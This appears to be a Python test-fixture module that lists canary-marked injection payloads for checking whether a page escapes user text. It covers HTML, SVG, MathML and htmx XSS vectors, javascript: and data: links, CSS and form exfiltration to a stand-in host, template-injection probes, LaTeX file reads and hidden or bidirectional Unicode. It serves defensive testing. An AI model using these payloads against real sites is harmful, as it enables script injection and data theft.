"""Texts that try to run, fetch, style or rearrange a page. Each calls `canary()` or names a canary address if it succeeds."""

RUNS = (
    "<script>canary(1)</script>",
    "<script src=https://canary.example/a.js></script>",
    "<script type=module>canary(2)</script>",
    "<ScRiPt/x>canary(3)</sCrIpT >",
    "<<script>canary(4);//<</script>",
    "</script><script>canary(5)</script>",
    '"><script>canary(6)</script>',
    "'><img src=x onerror=canary(7)>",
    "<img src=x onerror=canary(8)>",
    "<img src=x:x onerror&equals;canary(8)>",
    "<img/src=x/onerror=canary(9)>",
    '<img src="x` `<script>canary(10)</script>"` `>',
    "<body onload=canary(11)>",
    "<input autofocus onfocus=canary(12)>",
    "<details open ontoggle=canary(13)><summary>x</summary></details>",
    "<video><source onerror=canary(14)></video>",
    "<audio src=x onerror=canary(15)>",
    "<marquee onstart=canary(16)>x</marquee>",
    "<a href=x onmouseover=canary(17) style=position:fixed;inset:0>x</a>",
    '" onfocus=canary(18) autofocus tabindex=1 x="',
    "' onfocus=canary(19) autofocus tabindex=1 x='",
    "<iframe srcdoc='<script>parent.canary(20)</script>'></iframe>",
    "<iframe src=javascript:parent.canary(21)></iframe>",
    "<object data=data:text/html,<script>canary(22)</script>></object>",
    "<embed src=https://canary.example/e>",
    "<form action=https://canary.example/f><button>Submit and next</button></form>",
    "<button form=rank formaction=https://canary.example/g>Submit</button>",
    "<base href=https://canary.example/>",
    "<meta http-equiv=refresh content='0;url=https://canary.example/m'>",
    "<link rel=stylesheet href=https://canary.example/s.css>",
    "<template><script>canary(23)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=canary(24)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=canary(25)>'>",
    "<title><img title='</title><img src=x onerror=canary(26)>'>",
    "<!--><img src=x onerror=canary(27)>-->",
    "<![CDATA[<img src=x onerror=canary(28)>]]>",
    "<?xml-stylesheet href='javascript:canary(29)'?>",
    "<plaintext>canary",
)
"""HTML that a page which does not escape would run."""

HTMX = (
    "<div hx-get=/canary-hx hx-trigger=load>x</div>",
    "<div data-hx-post=/canary-hx data-hx-trigger=load>x</div>",
    "<div hx-on:load='canary(30)' hx-on::after-init='canary(31)'>x</div>",
    "<div hx-trigger='load[canary(32)]' hx-get=/canary-hx hx-vals='js:{x: canary(33)}'>x</div>",
    "<hx-partial hx-target='#main'><img src=x onerror=canary(34)></hx-partial>",
    "<template hx type=partial hx-target=body><script>canary(35)</script></template>",
)
"""What htmx would act on if it were an element."""

STYLES = (
    "<style>body{display:none}@import 'https://canary.example/i.css';</style>",
    "<p style='position:fixed;inset:0;background:url(https://canary.example/bg)'>x</p>",
    "<div class=rank-bar id=rank>Submit and next canary</div>",
    "</style><style>*{background:url(//canary.example/bg2)}</style>",
)
"""What would change how the page looks, or fetch through CSS."""

PICTURES = (
    "<svg onload=canary(40)></svg>",
    "<svg><script>canary(41)</script></svg>",
    "<svg><animate onbegin=canary(42) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:canary(43)><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=canary(44)/>#x'/></svg>",
    "<svg><foreignObject><iframe src=https://canary.example/fo></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=canary(45)></style></svg>",
    "![x](https://canary.example/pixel.svg)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Y2FuYXJ5KDQ2KT4=)",
    "[x](data:image/svg+xml,%3Csvg%20onload=canary(47)%3E)",
    "![x][p]\n\n[p]: https://canary.example/reference.svg 'x'",
)
"""SVG, and pictures in every way Markdown knows."""

MATHML = (
    "<math><mtext><style><img src=x onerror=canary(50)></style></mtext></math>",
    "<math href=javascript:canary(51)><mi>x</mi></math>",
    "<math><maction actiontype=statusline#https://canary.example xlink:href=javascript:canary(52)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=canary(53)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=canary(54) src>'>",
    "$\\href{javascript:canary(55)}{x}$",
    "$\\href{https://canary.example/h}{x}$",
    "$\\style{background:url(https://canary.example/st)}{x}$",
    "$\\class{rank-bar}{canary}$ $\\cssId{rank}{canary}$",
    "$\\text{<img src=x onerror=canary(56)>}$",
    "$\\text{</mtext></math><script>canary(57)</script>}$",
    "$$\\frac{<script>canary(58)</script>}{\\unicode{x3c}}$$",
    "$\\includegraphics{https://canary.example/tex.png}$ $\\input{/etc/passwd}$ $\\write18{canary}$",
    "$\\def\\a{\\a\\a}\\a$ canary",
    "$\\hspace{-200em}\\text{Submit canary}$",
    "$\\raise{100em}{canary}$ $\\rule{1000em}{1000em}$ $\\kern-9999px{canary}$",
    "$" + "{" * 400 + "canary" + "}" * 400 + "$",
)
"""MathML, and LaTeX that becomes it."""

LINKS = (
    "[x](javascript:canary(60))",
    "[x](JaVaScRiPt:canary(61))",
    "[x](java&#x0a;script:canary(62))",
    "[x](&#106;avascript:canary(63))",
    "[x](<java&Tab;script:canary(64)>)",
    "[x](\x01javascript:canary(65))",
    "[x](vbscript:canary(66))",
    "[x](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoNjcpPC9zY3JpcHQ+)",
    "[x](file:///etc/canary)",
    "[x](blob:https://canary.example/1)",
    "[x](//canary.example/protocol)",
    "[x](/canary-local)",
    "[x](\\\\canary.example/unc)",
    "[x](?canary=1)",
    "<javascript:canary(68)>",
    "<https://canary.example/autolink>",
    "[x]: javascript:canary(69)\n\n[x]",
    "[x][]\n\n[x]: <data:text/html,<script>canary(70)</script>>",
    '[x](https://canary.example/t "<img src=x onerror=canary(71)>")',
    "[x](https://canary.example/t '\" onmouseover=canary(72) \"')",
    '[x](https://canary.example/"onmouseover=canary(73))',
    "![<img src=x onerror=canary(74)>](x)",
    "[<script>canary(75)</script>](https://canary.example/in-text)",
    "[a](https://canary.example/[b](javascript:canary(76)))",
    "a[^1] canary\n\n[^1]: <script>canary(77)</script>",
)
"""Links that lead to code, to a page of ours, or out with something in tow."""

MARKDOWN = (
    "```html\n<script>canary(80)</script>\n```",
    "````\n```\n<script>canary(81)</script>\n```\n````",
    '~~~"onmouseover=canary(82)\n<img src=x onerror=canary(83)>\n~~~',
    "```<script>canary(84)</script>\nx",
    "`<script>canary(85)</script>`",
    "| <img src=x onerror=canary(86)> |\n|-|\n| <script>canary(87)</script> |",
    "> > > <script>canary(88)</script>",
    "- [ ] <input type=checkbox onclick=canary(89)>",
    "<div>\n\n**canary** <script>canary(90)</script>\n\n</div>",
    "&lt;script&gt;canary(91)&lt;/script&gt; &#60;img src=x onerror=canary(92)&#62;",
    "\\<script\\>canary(93)\\</script\\>",
    "<canary@canary.example>",
    "> " * 200 + "canary",
    "[" * 500 + "canary",
    "*" * 2000 + "canary",
)
"""Markdown at its edges."""

TEMPLATES = (
    "{{7*7}} canary",
    "{% raw %}{{ canary }}{% endraw %}{% include 'base.html' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} canary",
    "${7*7} #{7*7} <%= 7*7 %> [[7*7]] canary",
    "${canary(94)} `${canary(95)}`",
    "%(name)s %s %n {0.__class__} canary",
    "'); canary(96); //",
    "\"}'><script>canary(97)</script>",
    "\\u003cscript\\u003ecanary(98)\\u003c/script\\u003e",
)
"""What a template, a format string or a quoted script would evaluate."""

UNSEEN = (
    "canary \u202edesrever\u202c",
    "canary \u202e never closed",
    "canary \u2067\u202d \u2066 isolates never closed",
    "canary \u2069\u2069\u202e closes what it did not open",
    "\u200bcan\u200bary\u200d\ufeff\u2060\u00ad",
    "canary \u05e9\u05dc\u05d5\u05dd abc \u0645\u0631\u062d\u0628\u0627",
    "canary \x01\x02\x08\x0b\x0c\x1b[31m\x7f\x85",
    "canary \ufffd\ufffe \\0 &#0; &#x0; %00 \u2400",
    "canary " + "\u0335\u0489" * 300,
    "canary\U000e0001\U000e0063\U000e0061",
    "<script\u2028>canary(99)</script\u2029>",
    "\uff1cscript\uff1ecanary(100)\uff1c/script\uff1e",
    "canary" + "A" * 2_000,
)
"""Characters that turn, hide, stack up or never end."""

PAYLOADS = (*RUNS, *HTMX, *STYLES, *PICTURES, *MATHML, *LINKS, *MARKDOWN, *TEMPLATES, *UNSEEN)

LINES = tuple(
    " ".join(part.split())
    for part in (*UNSEEN[:6], *RUNS, *HTMX, *STYLES, *PICTURES, *LINKS, *TEMPLATES)
    if "\n" not in part and "\x01" not in part
)
"""Those that fit a line; first what turns or hides, so that it is in what a page shortens."""

NAME = " ".join(LINES)
"""All of them as one name."""
